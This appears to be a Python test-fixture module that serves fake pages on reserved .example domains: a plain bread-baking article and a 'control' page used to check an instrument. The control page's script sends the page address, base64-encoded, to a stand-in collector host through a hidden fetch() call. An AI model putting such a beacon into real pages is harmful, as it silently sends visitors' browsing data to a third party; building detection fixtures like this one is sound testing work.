"""The sites that stimuli visit: one ordinary article with what an ordinary page loads. And the control page.

Nothing in an article depends on the address but a number in its title, by which the person at
the keyboard knows that the right page has come; so a canary in the address cannot come back out
of the text. The control page does what no article does: its script tells a third party, in base64,
where it is. An instrument that does not see that sees nothing.
"""

from __future__ import annotations

from zlib import crc32

from backtalk.lab.internet.message import CSS, SCRIPT, Answer, Request, nothing, page, visit_cookie
from backtalk.lab.internet.picture import png

DOMAINS = ("example", "test")
"""Names reserved for such use (RFC 2606): nobody's site."""

CONTROL = "control.example"
COLLECTED_AT = "https://collector.example/collect"
"""Where the control page reports to."""

ASSETS = ("/assets/style.css", "/assets/bread.png", "/assets/page.js", "/favicon.ico")
CONTROL_ASSETS = ("/assets/style.css", "/assets/control.js", "/favicon.ico")

_ARTICLE = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title}</title>
<meta name="viewport" content="width=device-width, initial-scale=1">
<link rel="stylesheet" href="/assets/style.css"><link rel="icon" href="/favicon.ico"></head>
<body><article><h1>Baking bread on a weekday</h1>
<img src="/assets/bread.png" alt="A loaf on a board" width="320" height="200">
<p>Flour, water and salt are mixed the evening before. Time does the kneading, and the cold
slows it down enough to wait for you.</p>
<p>In the morning the oven is heated as far as it goes. A pot with a lid keeps the steam in; the
lid comes off for the last quarter of an hour.</p>
<p id="reading"></p></article><script src="/assets/page.js" defer></script></body></html>
"""

_CONTROL = """<!doctype html>
<html lang="en"><head><meta charset="utf-8"><title>{title}</title>
<link rel="stylesheet" href="/assets/style.css"><link rel="icon" href="/favicon.ico"></head>
<body><article><h1>Opening hours</h1><p>Monday to Friday, nine to five.</p></article>
<script src="/assets/control.js"></script></body></html>
"""

_STYLE = b"""body { margin: 0; background: #faf8f4; color: #222; font: 18px/1.6 Georgia, serif }
article { max-width: 34em; margin: 3em auto; padding: 0 1em }
img { display: block; margin: 1em 0 }
"""

_READING = b"""const words = document.querySelector("article").innerText.split(/\\s+/).length;
document.getElementById("reading").textContent = `${Math.max(1, Math.round(words / 200))} minute to read`;
"""

_REPORTING = f"""fetch("{COLLECTED_AT}", {{
  method: "POST", mode: "no-cors", keepalive: true,
  headers: {{ "content-type": "text/plain;charset=UTF-8" }},
  body: btoa(JSON.stringify({{ page: location.href }})),
}});
""".encode()

_FILES = {
    "/assets/style.css": Answer(kind=CSS, body=_STYLE),
    "/assets/page.js": Answer(kind=SCRIPT, body=_READING),
    "/assets/control.js": Answer(kind=SCRIPT, body=_REPORTING),
    "/assets/bread.png": Answer(kind="image/png", body=png(320, 200, 214, 170, 110)),
    "/favicon.ico": Answer(kind="image/png", body=png(32, 32, 160, 90, 40)),
}


def title(host: str) -> str:
    """The title of the page at any path of `host`."""
    topic = "Opening hours" if host == CONTROL else "Baking bread on a weekday"
    return f"{topic}, no. {100 + crc32(host.encode()) % 900}"


def answer(request: Request) -> Answer | None:
    """The article at any path of any site under DOMAINS, with a session cookie on the first visit."""
    if not request.on(*DOMAINS):
        return None
    if request.path in _FILES:
        return _FILES[request.path]
    if request.method not in {"GET", "HEAD"}:
        return nothing()
    text = _CONTROL if request.host == CONTROL else _ARTICLE
    return page(text.replace("{title}", title(request.host)), *visit_cookie(request, "sid"))
